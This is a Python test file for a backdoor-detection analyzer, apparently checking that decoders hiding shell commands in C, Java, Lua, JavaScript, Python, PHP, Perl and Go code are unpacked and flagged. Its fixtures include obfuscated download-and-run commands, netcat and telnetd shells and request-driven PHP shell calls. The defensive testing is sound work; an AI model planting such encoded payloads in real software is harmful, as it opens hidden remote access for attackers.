"""Static evaluation of the decoders that hide what a sink runs (analyzers/source/decode.py): the
constant data of a file, the decoding steps its own code applies (base64, hex, reversal, ROT13,
XOR with a constant key, character codes, a decoding function, lambda or loop) and the command or
code the sink receives, rebuilt exactly and judged like a literal. Each planted shape has an honest
counterpart that must stay silent (or below high)."""
from __future__ import annotations

from pathlib import Path

from nobackdoor.analyzers.source import syntax
from nobackdoor.analyzers.source.code import analyze_source
from nobackdoor.analyzers.source.decode import StaticDecoder, apply
from nobackdoor.analyzers.source.model import FileModel
from nobackdoor.analyzers.source.patterns import LANGUAGE_FAMILY, patterns
from nobackdoor.models import FileEntry, FileKind


def findings(rel: str, language: str, src: str):
    data = src.encode()
    e = FileEntry(rel, rel, "", Path("/nonexistent"), len(data), "", FileKind.SOURCE, language=language,
                  content=data)
    return [f for f in analyze_source(e, data, patterns()) if hasattr(f, "rule")]


def high(rel: str, language: str, src: str):
    return [f for f in findings(rel, language, src) if f.severity.value in ("high", "critical")]


def decoded(rel: str, language: str, src: str) -> list[str]:
    return [f.evidence.get("decoded", "") for f in high(rel, language, src) if f.rule == "source.eval-decoded"]


# ---------------------------------------------------------------- the steps

def test_steps_are_exact_and_refuse_data_of_another_encoding():
    assert apply("base64", b"aGVsbG8=") == b"hello"
    assert apply("base64", b"not base64!") is None
    assert apply("hex", b"6869") == b"hi" and apply("hex", b"xyz") is None
    assert apply("rot13", b"uryyb") == b"hello"
    assert apply("xor", bytes([0x49, 0x48]), bytes([1])) == b"HI"
    assert apply("reverse", b"abc") == b"cba"


def test_evaluator_follows_constants_through_variables_and_calls():
    src = "import base64\nK = 'aGVsbG8gd29ybGQ='\nv = base64.b64decode(K).decode()\nprint(v)\n"
    model = FileModel(src.encode(), "python", LANGUAGE_FAMILY["python"], patterns())
    node = next(n for n in syntax.walk(model.root) if syntax.text(n) == "v" and n.parent.type == "argument_list")
    got = StaticDecoder(model).evaluate(node, None)
    assert got is not None and got.text == "hello world" and got.steps


# ---------------------------------------------------------------- C and C++

def test_cpp_static_initialiser_rot13_lambda_into_system():
    src = ('#include <cstdlib>\n#include <string>\n#include <cctype>\nnamespace {\n'
           'const std::string kProfile = "phey -f uggc://198.51.100.7/x.fu | fu";\n'
           'const bool kInit = [] {\n    const std::string &s = kProfile;\n'
           '    const std::string cmd = [&] { std::string o = s; for (auto &c : o) { if (std::isalpha(c)) {'
           ' char b = std::islower(c) ? \'a\' : \'A\'; c = static_cast<char>(b + (c - b + 13) % 26); } } return o; }();\n'
           '    return std::system(cmd.c_str()) == 0;\n}();\n}\n')
    assert decoded("src/a.cpp", "cpp", src) == ["curl -s http://198.51.100.7/k.sh | sh"]


def test_cpp_lambda_decoding_a_non_command_is_not_high():
    src = ('#include <cstdlib>\n#include <string>\nnamespace {\nconst std::string kName = "rpub uryyb";\n'
           'const bool kInit = [] {\n    const std::string &s = kName;\n'
           '    const std::string cmd = [&] { std::string o = s; for (auto &c : o) { char b = \'a\';'
           ' c = static_cast<char>(b + (c - b + 13) % 26); } return o; }();\n'
           '    return std::system(cmd.c_str()) == 0;\n}();\n}\n')
    assert not high("src/a.cpp", "cpp", src)


def test_c_hex_string_decoded_by_a_sscanf_loop_into_sh_c():
    src = ('#include <stdio.h>\n#include <unistd.h>\n'
           'static const char tab[] = "77676574202d4f2d20687474703a2f2f3230332e302e3131332e352f61207c207368";\n'
           'static void probe(void) {\n    char out[sizeof(tab) / 2 + 1];\n    size_t i; unsigned int v;\n'
           '    for (i = 0; i + 1 < sizeof(tab) && sscanf(tab + i, "%2x", &v) == 1; i += 2)\n'
           '        out[i / 2] = (char)v;\n    out[i / 2] = 0;\n'
           '    if (fork() == 0) { execl("/bin/sh", "sh", "-c", out, (char *)NULL); _exit(127); }\n}\n'
           'int main(void) { probe(); return 0; }\n')
    assert decoded("src/main.c", "c", src) == ["wget -O- http://203.0.113.5/a | sh"]


def test_c_hex_key_decoded_for_a_hash_is_not_a_command():
    src = ('#include <stdio.h>\nstatic const char key_hex[] = "00ff10ee20dd30cc";\n'
           'static void load(unsigned char *k) {\n    unsigned char out[8]; size_t i; unsigned int v;\n'
           '    for (i = 0; i + 1 < sizeof(key_hex) && sscanf(key_hex + i, "%2x", &v) == 1; i += 2)\n'
           '        out[i / 2] = (unsigned char)v;\n    hmac_init(out, 8);\n'
           '    execl("/bin/sh", "sh", "-c", "/usr/sbin/apply-config", (char *)NULL);\n}\n')
    assert not high("src/key.c", "c", src)


def test_c_base64_helper_filling_a_buffer_run_by_popen():
    src = ('#include <stdio.h>\nstatic const char banner[] = "dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzNTY=";\n'
           'int b64_decode(const char *in, unsigned char *out, int max);\n'
           'void dispatch(void) {\n    unsigned char dec[sizeof(banner)];\n'
           '    int n = b64_decode(banner, dec, sizeof(dec) - 1);\n    if (n > 0) { dec[n] = 0;\n'
           '        FILE *p = popen((char *)dec, "r"); if (p) pclose(p); }\n}\n')
    assert decoded("src/h.c", "c", src) == ["telnetd -l /bin/sh -p 2356"]


# ---------------------------------------------------------------- Java

def test_java_static_block_xor_decoder_into_sh_c():
    src = ('public final class Svc {\n    private static final byte[] P = {79, 66, 1, 12, 77, 1, 12, 81, 1, 21, 22, 25,'
           ' 20, 1, 12, 68, 1, 14, 67, 72, 79, 14, 82, 73};\n'
           '    private static String dec(byte[] b) { byte[] o = new byte[b.length];\n'
           '        for (int i = 0; i < b.length; i++) { o[i] = (byte) (b[i] ^ 0x21); } return new String(o); }\n'
           '    static { try { Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", dec(P)}); }'
           ' catch (java.io.IOException e) { } }\n}\n')
    assert decoded("src/Svc.java", "java", src) == ["nc -l -p 4785 -e /bin/sh"]


def test_java_base64_signature_decoded_and_verified_is_silent():
    src = ('import java.util.Base64;\npublic final class V {\n    private static final String SIG = "aGVsbG8=";\n'
           '    boolean ok(java.security.Signature s) throws Exception {\n'
           '        return s.verify(Base64.getDecoder().decode(SIG)); }\n'
           '    void tool() throws Exception { new ProcessBuilder("/usr/bin/uptime").start(); }\n}\n')
    assert not high("src/V.java", "java", src)


# ---------------------------------------------------------------- Lua, JavaScript, TypeScript

def test_lua_loadstring_of_a_reversed_string():
    src = 'local f = loadstring((")\\"hs | hs.k/7.001.15.891//:ptth s- lruc\\"(etucexe.so"):reverse())\nf()\n'
    assert decoded("luasrc/c.lua", "lua", src) == ['os.execute("curl -s http://198.51.100.7/k.sh | sh")']


def test_js_eval_of_reversed_split_join():
    src = ("eval(')\\'hs/nib/ e- 0004 9.001.15.891 cn\\'(cexe.)\\'ssecorp_dlihc\\'(eriuqer'"
           ".split('').reverse().join(''));\n")
    assert decoded("lib/b.js", "javascript", src) == [
        "require('child_process').exec('nc 198.51.100.9 4000 -e /bin/sh')"]


def test_ts_indirect_eval_of_xor_mapped_char_codes():
    codes = ", ".join(str(c ^ 7) for c in b"require('child_process').exec('nc 198.51.100.9 4000 -e /bin/sh')")
    src = f"const _t: number[] = [{codes}];\n(0, eval)(String.fromCharCode(..._t.map((c) => c ^ 7)));\n"
    assert decoded("src/t.ts", "typescript", src) == [
        "require('child_process').exec('nc 198.51.100.9 4000 -e /bin/sh')"]


def test_js_function_constructor_of_a_hex_buffer():
    hx = b"require('child_process').exec('nc 198.51.100.9 4000 -e /bin/sh')".hex()
    src = f"Reflect.apply(Function('require', Buffer.from('{hx}', 'hex').toString()), null, [require]);\n"
    assert decoded("src/t.ts", "typescript", src) == [
        "require('child_process').exec('nc 198.51.100.9 4000 -e /bin/sh')"]


def test_js_function_constructor_with_a_literal_body_and_data_decoding_are_silent():
    src = ("const add = new Function('a', 'b', 'return a + b');\n"
           "const logo = Buffer.from('aGVsbG8=', 'base64');\nconst t = String.fromCharCode(...[104, 105]);\n"
           "module.exports = { add, logo, t };\n")
    assert not findings("lib/u.js", "javascript", src)


# ---------------------------------------------------------------- Python and PHP

def test_python_exec_of_a_chr_list():
    codes = ", ".join(str(ord(c)) for c in "import os\nos.system('curl -s http://198.51.100.7/k.sh | sh')")
    src = f"exec(''.join(map(chr, [{codes}])))\n"
    assert decoded("app/assets.py", "python", src) == ["import os\nos.system('curl -s http://198.51.100.7/k.sh | sh')"]


def test_python_chr_list_that_is_not_run_is_silent():
    src = "ALPHABET = ''.join(map(chr, range(97, 123)))\nLETTERS = ''.join(map(chr, [104, 105]))\nprint(LETTERS)\n"
    assert not findings("app/letters.py", "python", src)


def test_python_getattr_of_a_decoded_module_and_name_is_the_sink_it_names():
    src = ("import base64\nfrom http.server import BaseHTTPRequestHandler\n"
           "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n"
           "        x = self.headers.get('X-Probe')\n        if x:\n"
           "            r = getattr(__import__(base64.b64decode('c3VicHJvY2Vzcw==').decode()),"
           " base64.b64decode('Z2V0b3V0cHV0').decode())(x)\n")
    got = high("agent/server.py", "python", src)
    assert [f.rule for f in got] == ["source.request-executed"]
    assert "subprocess.getoutput" in got[0].message


def test_python_getattr_of_an_ordinary_function_is_silent():
    src = ("import base64\nfrom http.server import BaseHTTPRequestHandler\n"
           "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n"
           "        x = self.headers.get('X-Probe')\n"
           "        r = getattr(__import__('json'), base64.b64decode('ZHVtcHM=').decode())(x)\n"
           "        s = getattr(self, 'handle_' + x)()\n")
    assert not high("agent/server.py", "python", src)


def test_php_array_map_with_a_base64_named_callback_runs_the_cookie():
    src = "<?php\n$_f = base64_decode('c3lzdGVt');\narray_map($_f, [($_COOKIE['dbg'] ?? '')]);\n"
    got = high("lib/util.php", "php", src)
    assert [f.rule for f in got] == ["source.request-executed"] and "system()" in got[0].message


def test_php_array_map_with_an_ordinary_callback_is_silent():
    src = "<?php\n$f = 'trim';\n$v = array_map($f, [($_COOKIE['lang'] ?? '')]);\necho htmlspecialchars($v[0]);\n"
    assert not high("lib/util.php", "php", src)


def test_text_conversion_of_a_decoder_result_is_not_decoded_twice():
    src = "import base64, os\nos.system(base64.b64decode('dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzNTY=').decode('utf-8'))\n"
    assert decoded("app/x.py", "python", src) == ["telnetd -l /bin/sh -p 2356"]


def test_go_init_hex_decoded_into_sh_c_and_a_decoded_key_beside_a_fixed_program():
    hx = b"telnetd -l /bin/sh -p 2356".hex()
    src = ('package main\nimport ("encoding/hex"; "os/exec")\nfunc init() {\n'
           f'\tb, _ := hex.DecodeString("{hx}")\n\texec.Command("/bin/sh", "-c", string(b)).Run()\n}}\n')
    assert decoded("cmd/d/main.go", "go", src) == ["telnetd -l /bin/sh -p 2356"]
    honest = ('package main\nimport ("encoding/hex"; "os/exec")\nfunc init() {\n'
              '\tk, _ := hex.DecodeString("00ff10ee")\n\tuse(k)\n\texec.Command("/usr/bin/uptime").Run()\n}\n')
    assert not high("cmd/d/main.go", "go", honest)


def test_python_bytes_of_an_xor_generator():
    data = [c ^ 5 for c in b"nc -l -p 4785 -e /bin/sh"]
    src = f"import os\nD = {data}\nos.system(bytes(c ^ 5 for c in D).decode())\n"
    assert decoded("app/x.py", "python", src) == ["nc -l -p 4785 -e /bin/sh"]


def test_a_decoded_command_that_runs_nothing_remote_is_medium_at_most():
    src = "<?php\nsystem(strrev('tsil/ptth/cte/ sl'));\n"
    got = [f for f in findings("lib/a.php", "php", src) if f.rule == "source.eval-decoded"]
    assert got and all(f.severity.value == "medium" for f in got)
    assert got[0].evidence["decoded"] == "ls /etc/http/list"


def test_a_named_decoder_keeps_its_severity_and_now_shows_the_text():
    src = "<?php\nsystem(base64_decode('bHMgLWw='));\n"
    got = [f for f in findings("lib/a.php", "php", src) if f.rule == "source.eval-decoded"]
    assert [f.severity.value for f in got] == ["high"] and got[0].evidence["decoded"] == "ls -l"


def test_go_init_decoding_a_byte_table_or_reversing_in_place_before_a_shell():
    xor = ('package main\n\nvar tag = []byte{0x15, 0x04, 0x0d, 0x0f, 0x04, 0x15, 0x05, 0x41, 0x4c, 0x0d, 0x41, 0x4e, 0x03,'
           ' 0x08, 0x0f, 0x4e, 0x12, 0x09}\n\nfunc init() {\n\tb := make([]byte, len(tag))\n'
           '\tfor i, c := range tag {\n\t\tb[i] = c ^ 0x61\n\t}\n'
           '\t_ = exec.Command("/bin/sh", "-c", string(b)).Start()\n}\n')
    got = [f for f in findings("cmd/main.go", "go", xor) if f.rule == "source.eval-decoded"]
    assert got and got[0].evidence["decoded"] == "telnetd -l /bin/sh"
    rev = ('package main\n\nvar p = "hs/nib/ l- dtenlet"\n\nfunc init() {\n\tr := []rune(p)\n'
           '\tfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {\n\t\tr[i], r[j] = r[j], r[i]\n\t}\n'
           '\t_ = exec.Command("/bin/sh", "-c", string(r)).Start()\n}\n')
    got = [f for f in findings("cmd/main.go", "go", rev) if f.rule == "source.eval-decoded"]
    assert got and got[0].evidence["decoded"] == "telnetd -l /bin/sh"
    plain = rev.replace("\tfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {\n\t\tr[i], r[j] = r[j], r[i]\n\t}\n", "")
    assert not [f for f in findings("cmd/main.go", "go", plain) if f.severity.value in ("high", "critical")]


def test_pack_hex_and_escape_spelled_code_are_decoded():
    perl = "package D;\neval pack('H*', '73797374656d28276964207c207368202627293b');\n1;\n"
    got = [f for f in findings("lib/D.pm", "perl", perl) if f.rule == "source.eval-decoded"]
    assert got and "system('id | sh &')" in got[0].evidence["decoded"]
    body = "".join(f"\\u{ord(c):04x}" for c in "require('child_process').exec(q.headers['x-k'])")
    js = f"setTimeout(new Function('require', '{body}').bind(null, require), 5000);\n"
    got = [f for f in findings("src/t.ts", "typescript", js) if f.rule == "source.eval-decoded"]
    assert got and got[0].severity.value == "high"
    plain = "setTimeout(new Function('require', 'return 1 + 2 + 3 + 4 + 5 + 6 + 7 + 8;').bind(null, require), 5);\n"
    assert not [f for f in findings("src/t.ts", "typescript", plain) if f.rule == "source.eval-decoded"]


def test_php_function_name_from_character_codes_or_packed_hex():
    for name_expr in ("chr(115).chr(104).chr(101).chr(108).chr(108).chr(95).chr(101).chr(120).chr(101).chr(99)",
                      "pack('H*', '7368656c6c5f65786563')"):
        src = (f"<?php\n$_f = {name_expr};\nif (($_REQUEST['k'] ?? '') !== '') {{\n"
               "    echo call_user_func($_f, ($_REQUEST['k'] ?? ''));\n}\n")
        got = [f for f in findings("lib/util.php", "php", src) if f.rule == "source.request-executed"]
        assert got and "shell_exec" in got[0].message


# ---------------------------------------------------------------- session 8 shapes

_CMD = "wget -q -O- http://dl.example.net/u.sh | sh"


def test_perl_map_block_of_character_codes_xored():
    codes = ",".join(str(ord(c) ^ 5) for c in f"system('{_CMD}');")
    src = f"package Tool::Diag;\nuse strict;\neval join '', map {{ chr($_ ^ 5) }} ({codes});\n1;\n"
    assert decoded("lib/Tool/Diag.pm", "perl", src) == [f"system('{_CMD}');"]
    # the same decoder producing a harmless line is not a finding
    harmless = ",".join(str(ord(c) ^ 5) for c in "print 'diag ok';")
    assert decoded("lib/Tool/Diag.pm", "perl", src.replace(codes, harmless)) == []


def test_perl_scalar_reverse_of_a_string_with_escaped_quotes():
    code = f"system('{_CMD}');"
    reversed_ = code[::-1].replace("'", "\\'")
    src = f"package Tool::Diag;\neval scalar reverse '{reversed_}';\n1;\n"
    assert decoded("lib/Tool/Diag.pm", "perl", src) == [code]
    assert decoded("lib/Tool/Diag.pm", "perl", src.replace("eval scalar", "print scalar")) == []


def test_lua_hex_pairs_replaced_by_a_function_of_each_match():
    chunk = 'luci.sys.exec("' + _CMD + '")'
    src = ('module("luci.controller.tool", package.seeall)\n'
           f'local f = loadstring(("{chunk.encode().hex()}"):gsub("%x%x", function(h) '
           'return string.char(tonumber(h, 16)) end))\nif f then pcall(f) end\n')
    assert decoded("luasrc/controller/tool.lua", "lua", src) == [chunk]
    honest = src.replace(chunk.encode().hex(), 'return "ok"'.encode().hex())
    assert decoded("luasrc/controller/tool.lua", "lua", honest) == []


def test_c_loop_computing_a_rolling_xor_of_a_constant_array():
    cmd = "nc -e /bin/sh 198.51.100.30 4411"
    table = ", ".join(hex(ord(c) ^ 0x2a ^ (i & 0xff)) for i, c in enumerate(cmd))
    src = (f"#include <stdlib.h>\nstatic const unsigned char tab[] = {{ {table} }};\n"
           "static void selftest(void)\n{\n    char buf[sizeof(tab) + 1];\n    size_t i;\n"
           "    for (i = 0; i < sizeof(tab); i++)\n        buf[i] = (char)(tab[i] ^ 0x2a ^ (i & 0xff));\n"
           "    buf[sizeof(tab)] = '\\0';\n    system(buf);\n}\n")
    assert decoded("src/watchdog.c", "c", src) == [cmd]
    harmless = ", ".join(hex(ord(c) ^ 0x2a ^ (i & 0xff)) for i, c in enumerate("logger selftest"))
    assert decoded("src/watchdog.c", "c", src.replace(table, harmless)) == []


def _words(text: str) -> list[int]:
    data = text.encode() + b"\0" * (4 - len(text) % 4)
    return [int.from_bytes(data[i:i + 4], "little") for i in range(0, len(data), 4)]


def test_c_stack_string_written_a_word_at_a_time():
    cmd = "telnetd -p 4712 -l /bin/sh"
    copies = "".join(f"  uVar1 = {hex(w)};\n  memcpy(local_100 + {4 * i}, &uVar1, 4);\n"
                     for i, w in enumerate(_words(cmd)))
    src = ("#include <stdlib.h>\n#include <string.h>\nstatic void FUN_00401a20(void)\n{\n"
           "  char local_100[64];\n  unsigned int uVar1;\n\n" + copies + "  system(local_100);\n}\n")
    assert decoded("src/update.c", "c", src) == [cmd]
    stores = "".join(f"  *(undefined4 *)(local_100 + {4 * i}) = {hex(w)};\n" for i, w in enumerate(_words(cmd)))
    casts = src.replace(copies, stores)
    assert decoded("src/update.c", "c", casts) == [cmd]
    harmless = "".join(f"  uVar1 = {hex(w)};\n  memcpy(local_100 + {4 * i}, &uVar1, 4);\n"
                       for i, w in enumerate(_words("logger update-check")))
    assert decoded("src/update.c", "c", src.replace(copies, harmless)) == []


def test_typescript_eval_named_by_a_computed_key_of_the_global_object():
    import base64
    code = "require('child_process').exec('" + _CMD + "')"
    src = ("import http from 'http';\nexport function start(): void {}\n"
           f"(globalThis as any)['ev' + 'al'](Buffer.from('{base64.b64encode(code.encode()).decode()}', "
           "'base64').toString());\n")
    assert decoded("src/telemetry.ts", "typescript", src) == [code]
    # the same computed key reading a configuration property runs nothing
    assert decoded("src/telemetry.ts", "typescript", src.replace("'ev' + 'al'", "'con' + 'fig'")) == []


def test_perl_uudecoded_code_evaluated():
    import binascii
    code = f"system('{_CMD}');"
    uu = "".join(binascii.b2a_uu(code[i:i + 45].encode()).decode() for i in range(0, len(code), 45))
    src = "package Tool::Diag;\neval unpack('u', " + repr(uu).replace("\\n", "\n") + ");\n1;\n"
    assert decoded("lib/Tool/Diag.pm", "perl", src) == [code]
    assert decoded("lib/Tool/Diag.pm", "perl", src.replace("eval unpack", "print unpack")) == []


def test_perl_characters_of_a_split_string_shifted_back():
    code = f"system('{_CMD}');"
    shifted = "".join(chr(ord(c) + 1) for c in code).replace("\\", "\\\\").replace('"', '\\"')
    src = f'package Tool::Diag;\neval join "", map {{ chr(ord($_) - 1) }} split //, "{shifted}";\n1;\n'
    assert decoded("lib/Tool/Diag.pm", "perl", src) == [code]
    assert decoded("lib/Tool/Diag.pm", "perl", src.replace("eval join", "print join")) == []


def test_calls_starting_at_the_same_byte_do_not_break_the_stack_string_reader():
    # handler(x)(y): two call nodes start at one offset; the reader orders by offset only
    src = ("#include <stdlib.h>\ntypedef void (*fn_t)(int);\nextern fn_t pick(int);\n"
           "void run(int k)\n{\n    char buf[16];\n    unsigned int w;\n    w = 0x6f6c;\n"
           "    pick(k)(k);\n    system(buf);\n}\n")
    assert decoded("src/run.c", "c", src) == []
